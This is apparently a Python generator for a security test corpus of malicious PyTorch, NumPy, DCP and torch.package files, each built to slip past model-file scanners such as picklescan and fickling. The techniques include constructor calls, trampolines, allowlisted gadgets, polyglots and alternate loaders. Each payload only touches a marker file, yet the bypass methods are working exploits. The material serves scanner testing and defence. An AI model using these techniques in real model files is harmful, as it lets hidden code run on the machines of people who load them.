"""Issue 21: scanner-bypass techniques, one case per technique, each with a live payload.

Classes (each payload creates its marker under at least one reference loader;
``test_parity.test_every_payload_is_live`` checks that):

- ``constructor-call``: a global outside torch's allowlist that is *called* by
  OBJ, INST, NEWOBJ or NEWOBJ_EX rather than REDUCE, and stdlib/NumPy classes
  whose construction or ``__setstate__`` opens files, registers exit hooks
  (``atexit``, ``weakref.finalize``, ``threading.Timer``) or unpickles nested
  bytes (picklescan and modelscan only look at GLOBAL names; fickling's call
  graph misses INST/OBJ callers in some versions);
- ``trampoline``: an allowlisted function that receives a callable, a type or a
  name and calls it (``torch._tensor._rebuild_from_type_v2``,
  ``copyreg._reconstructor``, NumPy's ``__randomstate_ctor``/``__generator_ctor``);
- ``gadget``: functions reached through names scanners allow: methods of
  allowlisted classes by a dotted STACK_GLOBAL or GLOBAL under protocol 4
  (``pathlib.PosixPath.touch``, ``torch.UntypedStorage.from_file``,
  ``numpy.ndarray.tofile``), torch's and NumPy's own helpers
  (``torch.fx.graph_module.reduce_graph_module`` execs its source,
  DCP's ``FileSystem.rename`` in a module scanners trust, NumPy's private
  ``_npyio_impl``/``_format_impl`` writers, the datapipes decoder);
- ``other-loader``: bytes a loader other than ``torch.load`` reads: ``.npy``
  and ``.npz`` object arrays under several dtype spellings (``np.load(
  allow_pickle=True)``), a file that is valid safetensors *and* a pickle named
  ``.pth``, legacy torch files whose magic number is pickled differently, DCP
  ``.metadata`` pickles (``FileSystemReader.read_metadata``), ``torch.package``
  archives (``PackageImporter`` imports the archive's own source), index files
  naming shards outside their folder (how transformers' sharded loader joins
  paths), and members of a torch zip torch never reads (``flag``: no marker).

Sources: picklescan advisories (GHSA-vvpj-8cmc-gx39 pkgutil.resolve_name,
GHSA-955r-x9j8-7rhh/GHSA-46h3-79wf-xr6c _operator, GHSA-h3qp-7fh3-f8h4 datapipes
decoder, GHSA-vv6j-3g6g-2pvj config_module), picklescan issue 66 (string to
callable indirection), fickling issue 190, modelscan issue 263, and arXiv
2508.19774 (loading paths beyond torch.load: numpy, DCP, torch.package, index
files; gadgets in allowlisted libraries; payloads before a deliberate error).
"""
from __future__ import annotations

import io
import json
import os
import pickle
import struct
import zipfile
from typing import TYPE_CHECKING

from . import builders as b, pk

if TYPE_CHECKING:
    from .generate import Corpus


def add_bypasses(c: Corpus) -> None:
    _constructor_calls(c)
    _trampolines(c)
    _gadgets(c)
    _other_loaders(c)


def _sd() -> dict:
    from .generate import state_dict

    return state_dict()


def inject(body: bytes, proto: int = 2) -> bytes:
    """A clean torch.save zip whose data.pkl first builds ``body`` (then POPs it)."""
    raw = b.tsave(_sd(), pickle_protocol=2)
    return b.patch_data_pkl(raw, lambda p: bytes([0x80, proto]) + bytes(body) + b"0" + p[2:])


_PATH = pk.glob("pathlib", "PosixPath")


def _path(p: str) -> pk.Raw:
    return pk.call(_PATH, p)


# ------------------------------------------------------------------ constructor calls


def _constructor_calls(c: Corpus) -> None:
    def add(name: str, data: bytes, note: str, calls: tuple[str, ...], ext: str = ".pth") -> None:
        c.add(name, "constructor-call", data, note, ext=ext, payload=True, calls=calls)

    m = c.marker
    add("obj_codecs_open", pk.plain(pk.obj(pk.glob("codecs", "open"), m("obj_codecs_open"), "w")),
        "OBJ calls codecs.open(marker, 'w'): a function outside the allowlist, called without REDUCE",
        ("codecs.open",), ext=".pkl")
    add("inst_codecs_open", inject(pk.inst("codecs", "open", m("inst_codecs_open"), "w")),
        "INST codecs.open(marker, 'w') in data.pkl of a torch zip", ("codecs.open",))
    add("obj_wave_write", inject(pk.obj(pk.glob("wave", "Wave_write"), m("obj_wave_write"))),
        "OBJ constructs wave.Wave_write(path): its __init__ opens the path for writing", ("wave.Wave_write",))
    add("inst_mailbox_mbox", pk.plain(pk.inst("mailbox", "mbox", m("inst_mailbox_mbox"))),
        "INST constructs mailbox.mbox(path): creates the file", ("mailbox.mbox",), ext=".pkl")
    add("newobj_numpy_memmap", inject(pk.newobj(pk.glob("numpy._core.memmap", "memmap"),
                                                m("newobj_numpy_memmap"), "uint8", "w+", 0, (1,))),
        "NEWOBJ numpy._core.memmap.memmap.__new__(cls, path, 'uint8', 'w+'): creates the file in __new__",
        ("numpy._core.memmap.memmap",))
    add("newobj_ex_numpy_memmap", inject(pk.newobj_ex(pk.sglob("numpy._core.memmap", "memmap"), (),
                                                      {"filename": m("newobj_ex_numpy_memmap"), "mode": "w+",
                                                       "shape": (1,)}), proto=4),
        "NEWOBJ_EX memmap(filename=path, mode='w+', shape=(1,)): keyword arguments, protocol 4",
        ("numpy._core.memmap.memmap",))
    add("obj_logging_filehandler", inject(pk.obj(pk.glob("logging", "FileHandler"), m("obj_logging_filehandler"))),
        "OBJ constructs logging.FileHandler(path): opens the file at construction", ("logging.FileHandler",))
    add("atexit_register_os_system", inject(pk.call(pk.glob("atexit", "register"), pk.glob("os", "system"),
                                                    c.touch("atexit_register_os_system"))),
        "atexit.register(os.system, cmd): nothing runs during the load, the command runs at interpreter exit",
        ("atexit.register", "os.system"))
    touch = pk.sglob("pathlib", "PosixPath.touch")
    add("atexit_register_path_touch",
        inject(pk.call(pk.sglob("atexit", "register"), touch, _path(m("atexit_register_path_touch"))), proto=4),
        "atexit.register(PosixPath.touch, path): an exit hook made only of names on allowlists",
        ("atexit.register", "pathlib.PosixPath.touch"))
    holder = pk.call(pk.glob("collections", "OrderedDict"))
    add("weakref_finalize", inject(pk.call(pk.glob("weakref", "finalize"), holder, pk.glob("os", "system"),
                                           c.touch("weakref_finalize"))),
        "weakref.finalize(OrderedDict(), os.system, cmd): runs when the temporary dict dies, mid-load",
        ("weakref.finalize", "os.system"))
    timer = pk.call(pk.sglob("threading", "Timer"), 0.0, pk.sglob("os", "system"), [c.touch("threading_timer")])
    add("threading_timer", inject(pk.call(pk.sglob("threading", "Timer.start"), timer), proto=4),
        "threading.Timer(0, os.system, [cmd]).start(): the call runs on another thread after the load",
        ("threading.Timer", "threading.Timer.start", "os.system"))
    inner = b.dumps(b.Reduce(os.system, c.touch("setstate_datapipe_wrapper")))
    wrapper = pk.newobj(pk.glob("torch.utils.data.datapipes.datapipe", "_DataPipeSerializationWrapper"))
    add("setstate_datapipe_wrapper", inject(pk.build(wrapper, (inner, False))),
        "BUILD calls _DataPipeSerializationWrapper.__setstate__((bytes, False)): pickle.loads of nested bytes",
        ("torch.utils.data.datapipes.datapipe._DataPipeSerializationWrapper", "posix.system", "os.system"))
    add("persid_tuple_call", _persid_call(c.touch("persid_tuple_call")),
        "a REDUCE inside the tuple handed to persistent_load (torch.save's storage record)", ("os.system",))


def _persid_call(cmd: str) -> bytes:
    raw = b.tsave(_sd(), pickle_protocol=2)
    rec = b.torch_zip_records(raw)
    pkl = rec["data.pkl"]
    i = pkl.index(b"Q")  # the first BINPERSID: insert a call into its tuple, popped before the tuple closes
    start = pkl.rindex(b"(", 0, i)
    call = pk.call(pk.glob("os", "system"), cmd) + b"0"
    rec["data.pkl"] = pkl[: start + 1] + call + pkl[start + 1:]
    return b.write_torch_zip(rec)


# ------------------------------------------------------------------ trampolines


def _trampolines(c: Corpus) -> None:
    def add(name: str, data: bytes, note: str, calls: tuple[str, ...]) -> None:
        c.add(name, "trampoline", data, note, payload=True, calls=calls)

    m = c.marker
    v2 = pk.glob("torch._tensor", "_rebuild_from_type_v2")
    add("tramp_rebuild_from_type_v2_mbox",
        inject(pk.call(v2, pk.glob("mailbox", "mbox"), pk.glob("torch", "Tensor"),
                       (m("tramp_rebuild_from_type_v2_mbox"),), {})),
        "torch._tensor._rebuild_from_type_v2(func=mailbox.mbox, Tensor, (path,), {}): calls func(*args)",
        ("mailbox.mbox", "torch._tensor._rebuild_from_type_v2"))
    add("tramp_rebuild_from_type_v2_touch",
        inject(pk.call(v2, pk.sglob("pathlib", "PosixPath.touch"), pk.glob("torch", "Tensor"),
                       (_path(m("tramp_rebuild_from_type_v2_touch")),), {}), proto=4),
        "_rebuild_from_type_v2(PosixPath.touch, Tensor, (path,), {}): every name on an allowlist",
        ("pathlib.PosixPath.touch", "torch._tensor._rebuild_from_type_v2"))
    add("tramp_rebuild_from_type_v2_system",
        inject(pk.call(v2, pk.glob("posix", "system"), pk.glob("torch", "Tensor"),
                       (c.touch("tramp_rebuild_from_type_v2_system"),), {})),
        "_rebuild_from_type_v2(posix.system, Tensor, (cmd,), {})", ("posix.system", "os.system"))
    wave = pk.glob("wave", "Wave_write")
    add("tramp_copyreg_reconstructor",
        inject(pk.call(pk.glob("copyreg", "_reconstructor"), wave, wave, m("tramp_copyreg_reconstructor"))),
        "copyreg._reconstructor(cls, base=wave.Wave_write, state=path): calls base.__init__(obj, state)",
        ("wave.Wave_write", "copyreg._reconstructor"))
    add("tramp_randomstate_ctor",
        inject(pk.call(pk.glob("numpy.random._pickle", "__randomstate_ctor"), m("tramp_randomstate_ctor"),
                       pk.glob("mailbox", "mbox"))),
        "numpy.random._pickle.__randomstate_ctor(path, bit_generator_ctor=mailbox.mbox): calls ctor(name)",
        ("mailbox.mbox", "numpy.random._pickle.__randomstate_ctor"))
    add("tramp_generator_ctor",
        inject(pk.call(pk.glob("numpy.random._pickle", "__generator_ctor"), c.touch("tramp_generator_ctor"),
                       pk.glob("os", "system"))),
        "numpy.random._pickle.__generator_ctor(cmd, bit_generator_ctor=os.system)",
        ("os.system", "numpy.random._pickle.__generator_ctor"))


# ------------------------------------------------------------------ gadgets


def _gadgets(c: Corpus) -> None:
    def add(name: str, data: bytes, note: str, calls: tuple[str, ...], ext: str = ".pth") -> None:
        c.add(name, "gadget", data, note, ext=ext, payload=True, calls=calls)

    m = c.marker
    add("gadget_path_touch_stack_global",
        inject(pk.call(pk.sglob("pathlib", "PosixPath.touch"), _path(m("gadget_path_touch_stack_global"))), proto=4),
        "STACK_GLOBAL pathlib 'PosixPath.touch' (a method of an allowlisted class), called on a path",
        ("pathlib.PosixPath.touch",))
    add("gadget_path_write_bytes_global_proto4",
        pk.plain(pk.call(pk.glob("pathlib", "PosixPath.write_bytes"), _path(m("gadget_path_write_bytes_global_proto4")),
                         b"x"), proto=4),
        "GLOBAL (text opcode) with the dotted name PosixPath.write_bytes under a protocol-4 header",
        ("pathlib.PosixPath.write_bytes",), ext=".pkl")
    add("gadget_untyped_storage_from_file",
        inject(pk.call(pk.sglob("torch", "UntypedStorage.from_file"), m("gadget_untyped_storage_from_file"), True, 1),
               proto=4),
        "torch.UntypedStorage.from_file(path, shared=True, nbytes=1): creates the file",
        ("torch.UntypedStorage.from_file",))
    arr = pk.call(pk.glob("numpy", "array"), [1])
    add("gadget_ndarray_tofile",
        inject(pk.call(pk.sglob("numpy", "ndarray.tofile"), arr, m("gadget_ndarray_tofile")), proto=4),
        "numpy.ndarray.tofile(numpy.array([1]), path): writes a file", ("numpy.ndarray.tofile",))
    add("gadget_numpy_open_memmap",
        inject(pk.call(pk.glob("numpy.lib._format_impl", "open_memmap"), m("gadget_numpy_open_memmap"), "w+",
                       "uint8", (1,))),
        "numpy.lib._format_impl.open_memmap(path, 'w+'): NumPy 2's private home of numpy.lib.format",
        ("numpy.lib._format_impl.open_memmap",))
    add("gadget_numpy_savetxt",
        inject(pk.call(pk.glob("numpy.lib._npyio_impl", "savetxt"), m("gadget_numpy_savetxt"), [1])),
        "numpy.lib._npyio_impl.savetxt(path, [1]): NumPy 2's private home of numpy.lib.npyio",
        ("numpy.lib._npyio_impl.savetxt",))
    src = os.path.join(c.support, "gadget_dcp_fs_rename.src")
    with open(src, "w") as f:
        f.write("moved into place by the payload\n")
    add("gadget_dcp_fs_rename",
        inject(pk.call(pk.sglob("torch.distributed.checkpoint.filesystem", "FileSystem.rename"), None, _path(src),
                       _path(m("gadget_dcp_fs_rename"))), proto=4),
        "torch.distributed.checkpoint.filesystem.FileSystem.rename(None, src, dst): moves a file "
        "(a module whose classes scanners trust as DCP metadata)",
        ("torch.distributed.checkpoint.filesystem.FileSystem.rename",))
    body = {"_code": "\ndef forward(self):\n    return None\n", "_graph": None}
    add("gadget_fx_reduce_graph_module",
        inject(pk.call(pk.glob("torch.fx.graph_module", "reduce_graph_module"), body,
                       c.py_touch("gadget_fx_reduce_graph_module") + "\n")),
        "torch.fx.graph_module.reduce_graph_module(body, import_block): exec of import_block + body['_code'] "
        "(how a pickled GraphModule comes back)", ("torch.fx.graph_module.reduce_graph_module",))
    inner = b.dumps(b.Reduce(os.system, c.touch("gadget_datapipes_decoder")))
    add("gadget_datapipes_decoder",
        inject(pk.call(pk.glob("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle", inner)),
        "torch.utils.data.datapipes.utils.decoder.basichandlers('pickle', bytes): pickle.loads "
        "(picklescan GHSA-h3qp-7fh3-f8h4)",
        ("torch.utils.data.datapipes.utils.decoder.basichandlers", "posix.system", "os.system"))
    mc = pk.call(pk.glob("_operator", "methodcaller"), "touch")
    add("gadget_operator_methodcaller", inject(pk.call(mc, _path(m("gadget_operator_methodcaller")))),
        "_operator.methodcaller('touch')(path): calls an object the pickle built (picklescan GHSA-955r-x9j8-7rhh)",
        ("_operator.methodcaller",))
    reg = pk.call(pk.glob("copyreg", "add_extension"), "os", "system", 0xF1) + b"0"
    add("opcode_ext_registered",
        pk.plain(reg + pk.call(b"\x82\xf1", c.touch("opcode_ext_registered"))), "copyreg.add_extension('os', "
        "'system', 241), then EXT1 241 names os.system without a GLOBAL", ("copyreg.add_extension", "os.system"),
        ext=".pkl")
    add("opcode_payload_then_next_buffer",
        pk.plain(pk.call(pk.glob("os", "system"), c.touch("opcode_payload_then_next_buffer")) + b"0\x97", proto=5),
        "protocol 5: os.system, then NEXT_BUFFER without buffers: the load fails after the call",
        ("os.system",), ext=".pkl")


# ------------------------------------------------------------------ other loaders


def _npy(descr: str, payload: bytes, shape: tuple = (1,), version: tuple[int, int] = (1, 0)) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape!r}, }}"
    hlen_size = 2 if version == (1, 0) else 4
    pad = 64 - (10 + (hlen_size - 2) + len(header) + 1) % 64
    header += " " * pad + "\n"
    size = struct.pack("<H" if hlen_size == 2 else "<I", len(header))
    return b"\x93NUMPY" + bytes(version) + size + header.encode() + payload


def _npz(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for n, d in members.items():
            z.writestr(zipfile.ZipInfo(n, b.FIXED_DATE), d)
    return out.getvalue()


def _other_loaders(c: Corpus) -> None:
    def add(name: str, data: bytes | None, note: str, calls: tuple[str, ...] = ("posix.system", "os.system"),
            ext: str = ".pth", **kw) -> None:
        c.add(name, "other-loader", data, note, ext=ext, payload=True, calls=calls, **kw)

    def evil(name: str) -> bytes:
        return b.dumps([b.Reduce(os.system, c.touch(name))])

    add("npy_object_pipe_o", _npy("'|O'", evil("npy_object_pipe_o")),
        "a .npy with descr '|O': np.load(allow_pickle=True) unpickles the data", ext=".npy")
    add("npy_object_v2_header", _npy("'O'", evil("npy_object_v2_header"), version=(2, 0)),
        "a .npy format 2.0 (4-byte header length), descr 'O'", ext=".npy")
    add("npy_object_v3_structured", _npy("[('a', '|O')]", evil("npy_object_v3_structured"), version=(3, 0)),
        "a .npy format 3.0, a structured dtype with an object field", ext=".npy")
    for name, descr in (("npz_object_lt_o", "'<O'"), ("npz_object_o8", "'O8'"), ("npz_object_word", "'object'"),
                        ("npz_object_subarray", "[('a', '|O', (1,))]"), ("npz_object_nested_field",
                                                                        "[('a', [('b', '>O')])]")):
        add(name, _npz({"w.npy": _npy("'<f4'", b.f32(1.0, 2.0), shape=(2,)), "meta.npy": _npy(descr, evil(name))}),
            f"an .npz whose member meta.npy has descr {descr}: np.load(...)['meta'] unpickles it", ext=".npz")
    add("pickle_named_npy", b.dumps(b.Reduce(os.system, c.touch("pickle_named_npy"))),
        "a plain pickle named .npy: np.load(allow_pickle=True) falls back to pickle.load", ext=".npy")
    add("polyglot_safetensors_pickle", _polyglot(c.touch("polyglot_safetensors_pickle")),
        "valid safetensors (safe_open reads a U8 tensor) and a protocol-0 pickle calling os.system, named .pth",
        calls=("os.system",))
    for name, magic in (("legacy_magic_proto0", b"L119547037146038801333356L\n."),
                        ("legacy_magic_long4", b"\x80\x02\x8b\x0a\x00\x00\x00" + (0x1950A86A20F9469CFC6C).to_bytes(
                            10, "little") + b"."),
                        ("legacy_magic_proto4_frame", pickle.dumps(0x1950A86A20F9469CFC6C, protocol=4))):
        add(name, _legacy_with_magic(magic, c.touch(name)),
            f"legacy torch file whose magic number is pickled as {magic[:6]!r}...: posix.system in the object pickle")
    data = _legacy_with_magic(b"L119547037146038801333356L\n.", "touch /nonexistent/legacy_member")
    c.add("zip_member_legacy_alt_magic", "other-loader", b.write_torch_zip({**b.torch_zip_records(b.tsave(_sd())),
                                                                           "extra/model.pt": data}),
          "a legacy torch file (magic pickled in protocol 0) stored as a member torch never reads",
          flag=("posix.system", "os.system"))
    c.add("zip_member_npy_object", "other-loader", b.write_torch_zip({**b.torch_zip_records(b.tsave(_sd())),
                                                                     "extra/stats.npy": _npy("'=O'", b.dumps(
                                                                         [b.Reduce(os.system, "touch /x")]))}),
          "an object .npy (descr '=O') stored as a member torch never reads", flag=("posix.system", "os.system"))
    lfb = pk.glob("torch.storage", "_load_from_bytes")
    add("load_from_bytes_plain_pickle",
        inject(pk.call(lfb, b.proto0_call("os", "system", c.touch("load_from_bytes_plain_pickle")))),
        "torch.storage._load_from_bytes (allowlisted: how pickle.dumps(tensor) stores storages) of a protocol-0 "
        "pickle with no torch magic: torch.load reads it as the legacy format and runs it", calls=("os.system",))
    add("load_from_bytes_alt_magic",
        inject(pk.call(lfb, _legacy_with_magic(b"L119547037146038801333356L\n.",
                                               c.touch("load_from_bytes_alt_magic")))),
        "_load_from_bytes of a legacy torch file whose magic number is pickled in protocol 0")
    members = b.zip_members(b.tsave({"fc.weight": _sd()["fc.weight"]}))  # one tensor: which twin torch reads
    # depends on where miniz's search over the case-folded names lands; with this member list it is the last
    evil_pkl = b.proto0_call("os", "system", c.touch("zip_case_folded_data_pkl"))
    add("zip_case_folded_data_pkl", b.py_zip([*members, ("archive/DATA.PKL", evil_pkl)]),
        "a second data.pkl spelled archive/DATA.PKL after the clean one: torch's case-insensitive lookup reads it, "
        "zipfile's exact lookup reads the clean one", calls=("os.system",))
    _dcp_cases(c, add)
    _package_cases(c, add)
    _index_cases(c, add)
    _torchscript_cases(c)


def _legacy_with_magic(magic: bytes, cmd: str) -> bytes:
    import pickletools

    legacy = b.tsave(_sd(), _use_new_zipfile_serialization=False)
    ends = []
    pos = 0
    for _ in range(4):  # magic, protocol, sys_info, the object: walked, never run
        for op, _arg, at in pickletools.genops(legacy[pos:]):
            if op.name == "STOP":
                pos += at + 1
                break
        ends.append(pos)
    rest, start, end = ends[0], ends[2], ends[3]
    obj = b.dumps({"x": b.Reduce(os.system, cmd)})
    return magic + legacy[rest:start] + obj + legacy[end:]


def _polyglot(cmd: str) -> bytes:
    """Bytes 0-7 read as safetensors' header length AND as the start of a protocol-0 STRING opcode.

    ``S"`` + six NULs opens a quoted STRING that runs to the first newline: the
    JSON header, which ends its last value with ``"`` then a newline; the two
    closing braces are EMPTY_DICT opcodes, and the tensor data (a U8 tensor) is
    the rest of the pickle: os.system(cmd), STOP.
    """
    n = struct.unpack("<Q", b'S"' + b"\0" * 6)[0]
    rest = f"cos\nsystem\n(V{cmd}\ntR.".encode()
    head = f'{{"w":{{"dtype":"U8","shape":[{len(rest)}],"data_offsets":[0,{len(rest)}]}},"__metadata__":{{"p":"'
    tail = '"\n}}'
    pad = n - len(head) - len(tail)
    text = (head + "x" * pad + tail).encode()
    assert len(text) == n
    return b'S"' + b"\0" * 6 + text + rest


def _dcp_cases(c: Corpus, add) -> None:
    import warnings

    import torch.distributed.checkpoint as dcp

    base = os.path.join(c.folder, "dirs")
    for name, given in (
        ("dcp_metadata_os_system", b.dumps(b.Reduce(os.system, c.touch("dcp_metadata_os_system")))),
        ("dcp_metadata_fs_rename", None),
    ):
        payload = given
        d = os.path.join(base, name)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            dcp.save({"model": _sd()}, checkpoint_id=d)
        if payload is None:
            src = os.path.join(c.support, name + ".src")
            with open(src, "w") as f:
                f.write("x\n")
            payload = pk.plain(pk.call(pk.sglob("torch.distributed.checkpoint.filesystem", "FileSystem.rename"), None,
                                       _path(src), _path(c.marker(name))), proto=4)
            calls: tuple[str, ...] = ("torch.distributed.checkpoint.filesystem.FileSystem.rename",)
            note = "DCP folder whose .metadata calls FileSystem.rename (a DCP module scanners trust)"
        else:
            calls = ("posix.system", "os.system")
            note = "DCP folder whose .metadata pickle calls posix.system (FileSystemReader.read_metadata)"
        with open(os.path.join(d, ".metadata"), "wb") as f:
            f.write(payload)
        add(name, None, note, calls=calls, path=d, kind="folder")
    d = os.path.join(base, "dcp_bytes_item_payload")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save({"model": _sd(), "extra": b.Reduce(os.system, c.touch("dcp_bytes_item_payload"))}, checkpoint_id=d)
    add("dcp_bytes_item_payload", None, "DCP folder whose non-tensor item (a bytes item of __0_0.distcp) calls "
        "posix.system: DefaultLoadPlanner.load_bytes torch.loads it with weights_only=False", path=d, kind="folder")


def _package_cases(c: Corpus, add) -> None:
    from torch.package import PackageExporter

    for name, pickled in (
        ("torch_package_module_source", b"\x80\x03cevil_mod\nThing\n)\x81."),
        ("torch_package_reduce_function", b"\x80\x03cevil_mod\nbuild\n)R."),
    ):
        path = os.path.join(c.folder, name + ".pt")
        with PackageExporter(path) as exp:
            exp.save_source_string("evil_mod", f"{c.py_touch(name)}\nclass Thing:\n    pass\n"
                                               "def build():\n    return Thing()\n")
            exp.save_binary("res", "model.pkl", pickled)
        add(name, None, f"torch.package archive: PackageImporter.load_pickle imports evil_mod from the archive's own "
            f"source ({'NEWOBJ of its class' if 'Thing' in pickled.decode('latin1') else 'REDUCE of its function'})",
            calls=("evil_mod.Thing", "evil_mod.build"), path=path)


def _index_cases(c: Corpus, add) -> None:
    base = os.path.join(c.folder, "dirs")
    outside = os.path.join(c.folder, "outside")
    os.makedirs(outside, exist_ok=True)
    for name in ("index_shard_outside_relative", "index_shard_outside_absolute"):
        shard = os.path.join(outside, name + ".bin")
        with open(shard, "wb") as f:
            f.write(b.tsave({"w": b.Reduce(os.system, c.touch(name))}))
        d = os.path.join(base, name)
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "pytorch_model-00001-of-00001.bin"), "wb") as f:
            f.write(b.tsave(_sd()))
        target = os.path.relpath(shard, d) if name.endswith("relative") else shard
        index = {"metadata": {"total_size": 32},
                 "weight_map": {"fc.weight": "pytorch_model-00001-of-00001.bin", "fc.bias": target}}
        with open(os.path.join(d, "pytorch_model.bin.index.json"), "w") as f:
            json.dump(index, f)
        add(name, None, f"pytorch_model.bin.index.json names a shard outside the folder ({target}); "
            "transformers-style loading joins folder and name (ckpt may instead refuse the path as outside)",
            path=d, kind="folder", error_ok="outside")


def _torchscript_cases(c: Corpus) -> None:
    import torch

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buf)
    rec = b.torch_zip_records(buf.getvalue())
    evil = b.dumps(b.Reduce(os.system, "touch /nonexistent/ts"))
    for name, member, note in (
        ("torchscript_constants_payload", "constants.pkl", "TorchScript archive whose constants.pkl calls os.system "
         "(torch.jit.load's unpickler refuses it; a Python unpickler would run it)"),
        ("torchscript_extra_pickle", "extra/notes.pkl", "TorchScript archive with a pickle in extra/ (never read)"),
    ):
        c.add(name, "other-loader", b.write_torch_zip({**rec, member: evil}), note,
              flag=("posix.system", "os.system"))
